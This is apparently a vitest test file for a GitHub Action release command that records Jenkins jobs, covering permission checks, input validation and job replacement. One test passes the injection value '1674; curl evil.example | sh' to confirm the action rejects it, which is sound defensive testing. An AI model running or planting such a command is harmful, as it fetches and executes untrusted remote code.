/**
 * `/release:record-job` end to end through the action's run(), against the local GitHub API
 * server: with an executor that cannot look a job up (no findJob, as the oar CLI), a dead run's
 * expired claim holds stage-testing for a person; a writer's comment records the Jenkins build
 * they found, and from then on the job is polled, never triggered. A reader's comment changes
 * nothing; a refused one is answered with the reason.
 */
import { rmSync } from 'node:fs';
import { afterAll, afterEach, beforeEach, describe, expect, it } from 'vitest';
import { run } from '../src/action/main';
import { boxOn, closeWorlds, commentId, commented, env, replies, SUMMARY, statusOf, world, type World } from './helpers/action-env';
import { CHAIN_PASS, MINUTE, T0, makeBox } from './helpers/fake-world';

afterEach(closeWorlds);
afterAll(() => rmSync(SUMMARY, { force: true }));

const RELEASE = '4.20.1';
const STAGE_URL = 'https://jenkins-csb-openshift-qe-mastern.dno.corp.redhat.com/job/zstreams/job/Stage-Pipeline/1674/';
const DEAD_CLAIM = { run: 'dead-run', at: '2025-10-31T23:40:00Z' };

/** stage-testing due (everything before it passed, promoted, stage-release done) and claimed by a run that died 20 minutes ago. */
async function heldWorld(permissions: Record<string, 'read' | 'write'> = {}): Promise<World> {
  const box = makeBox({
    tasks: { ...CHAIN_PASS, 'analyze-candidate-build': 'Pass', 'push-to-cdn-staging': 'Pass', 'image-consistency-check': 'Pass' },
    driver: { claims: { 'stage-testing': DEAD_CLAIM } },
  });
  const w = await world([box], { permissions });
  // As the oar CLI: it cannot say which job a task is running.
  w.executor.findJob = undefined;
  w.probes.promotionPhase = 'Accepted';
  w.probes.stageRelease = true;
  return w;
}

async function scheduled(w: World): Promise<string> {
  await using e = env(w, 'schedule', { schedule: '*/15 * * * *' });
  await run(w.factories);
  expect(e.errors()).toEqual([]);
  return e.summary();
}

const unrecorded = (w: World) => boxOn(w, RELEASE).driver?.['unrecorded_starts'];
const stageTesting = (w: World) => boxOn(w, RELEASE).tasks.find((t) => t.name === 'stage-testing');

describe('/release:record-job through the action', () => {
  let w: World;
  beforeEach(async () => {
    w = await heldWorld({ mallory: 'read' });
    // The dead run's claim has expired: the schedule run holds the task for a person.
    const summary = await scheduled(w);
    expect(w.executor.startsOf('stage-testing')).toBe(0);
    expect(unrecorded(w)).toEqual({ 'stage-testing': DEAD_CLAIM });
    expect(boxOn(w, RELEASE).driver?.['claims']).toBeUndefined();
    expect(summary).toContain('/release:record-job 4.20.1 stage-testing JOB to record the job it started');
  });

  it('a writer records the Jenkins build: the hold goes, the job is polled that run and the next, never triggered', async () => {
    const payload = commented(w, { body: `/release:record-job ${RELEASE} stage-testing ${STAGE_URL}\nfound it in Jenkins`, user: 'alice', issue: 12 });
    const id = commentId(payload);
    {
      await using e = env(w, 'issue_comment', payload);
      await run(w.factories);
      expect(e.errors()).toEqual([]);
    }
    expect(w.gh.reactions.map((r) => [r.comment_id, r.content])).toEqual([
      [id, 'eyes'],
      [id, '+1'],
    ]);
    const task = stageTesting(w);
    expect(task).toMatchObject({ status: 'In Progress', job: { id: '1674', url: STAGE_URL }, decided_by: 'alice', started_at: '2025-11-01T00:00:00Z' });
    expect(task?.result).toMatch(/^Job https:\/\/jenkins-csb-.*\/Stage-Pipeline\/1674\/ recorded by alice at 2025-11-01T00:00:00Z \(was waiting for a person: run dead-run may have started it at 2025-10-31T23:40:00Z without recording its job\)/);
    expect(unrecorded(w)).toBeUndefined();
    expect(boxOn(w, RELEASE).driver?.['claims']).toBeUndefined();
    // The same run polled the recorded job (the fake knows no such job yet: still running).
    expect(w.executor.polls.map((p) => [p.task, p.ctx.jobId])).toEqual([['stage-testing', '1674']]);
    expect(w.executor.startsOf('stage-testing')).toBe(0);
    const reply = replies(w);
    expect(reply).toHaveLength(1);
    expect(reply[0]?.issue_number).toBe(12);
    expect(reply[0]?.body).toMatch(
      new RegExp(`^@alice Recorded job ${STAGE_URL.replace(/[.]/g, '\\.')} for stage-testing of 4\\.20\\.1 \\(now In Progress\\): the next step polls it and does not start stage-testing again\\.`),
    );
    expect(reply[0]?.body).toContain('| stage-testing | In Progress |');

    // The job Jenkins runs finishes; the next scheduled run polls it and records the result.
    w.executor.jobs.push({ id: '1674', task: 'stage-testing', release: RELEASE, startedAt: T0.getTime() });
    w.clock.advance(45 * MINUTE);
    const summary = await scheduled(w);
    expect(w.executor.polls.map((p) => p.ctx.jobId)).toEqual(['1674', '1674']);
    expect(w.executor.startsOf('stage-testing')).toBe(0);
    expect(statusOf(boxOn(w, RELEASE), 'stage-testing')).toBe('Pass');
    expect(stageTesting(w)?.job).toEqual({ id: '1674', url: STAGE_URL });
    expect(summary).not.toContain('waits for a person');
  });

  it('a reader is refused: nothing read or written, the task stays held', async () => {
    const before = w.gh.commits.length;
    const requests = w.gh.requests.length;
    const payload = commented(w, { body: `/release:record-job ${RELEASE} stage-testing 1674`, user: 'mallory' });
    {
      await using e = env(w, 'issue_comment', payload);
      await run(w.factories);
      expect(e.errors()).toEqual([]);
      expect(e.infos()).toContain('Refused the command of mallory: they have read permission, write or more is needed.');
    }
    expect(w.gh.commits).toHaveLength(before);
    expect(w.gh.requests.slice(requests).filter((r) => r.path.includes('/contents/') || r.path.includes('/git/trees/'))).toEqual([]);
    expect(w.gh.reactions.map((r) => r.content)).toEqual(['eyes', '-1']);
    expect(replies(w).map((c) => c.body)).toEqual([`@mallory you need write permission on ${w.gh.owner}/${w.gh.repo} to run release commands (you have read); nothing was changed.`]);
    expect(unrecorded(w)).toEqual({ 'stage-testing': DEAD_CLAIM });
    expect(w.executor.polls).toEqual([]);
    expect(w.executor.startsOf('stage-testing')).toBe(0);
  });

  it('a job that is not one is answered with what is expected; nothing changes', async () => {
    const before = w.gh.commits.length;
    {
      await using _e = env(w, 'issue_comment', commented(w, { body: `/release:record-job ${RELEASE} stage-testing "1674; curl evil.example | sh"`, user: 'alice' }));
      await run(w.factories);
    }
    expect(w.gh.commits).toHaveLength(before);
    expect(w.gh.reactions.map((r) => r.content)).toEqual(['eyes', 'confused']);
    expect(replies(w)[0]?.body).toMatch(
      /^@alice "1674; curl evil\.example \| sh" is not a job of stage-testing: give the Jenkins Stage-Pipeline build number \(1674\) or its https URL \(.*\)\. Nothing was changed\./,
    );
    expect(unrecorded(w)).toEqual({ 'stage-testing': DEAD_CLAIM });
  });

  it('a job recorded already is never replaced: the second comment is refused with the way out', async () => {
    {
      await using _e = env(w, 'issue_comment', commented(w, { body: `/release:record-job ${RELEASE} stage-testing 1674`, user: 'alice' }));
      await run(w.factories);
    }
    {
      await using _e = env(w, 'issue_comment', commented(w, { body: `/release:record-job ${RELEASE} stage-testing 1675`, user: 'alice' }));
      await run(w.factories);
    }
    expect(w.gh.reactions.map((r) => r.content)).toEqual(['eyes', '+1', 'eyes', 'confused']);
    expect(replies(w)[1]?.body).toMatch(
      /^@alice \/release:record-job was not applied: stage-testing of 4\.20\.1 already records job 1674, and a recorded job is never replaced; nothing was recorded\. If that job is wrong, \/release:retry 4\.20\.1 stage-testing clears it/,
    );
    expect(stageTesting(w)?.job).toEqual({ id: '1674' });
    expect(w.executor.startsOf('stage-testing')).toBe(0);
  });
});
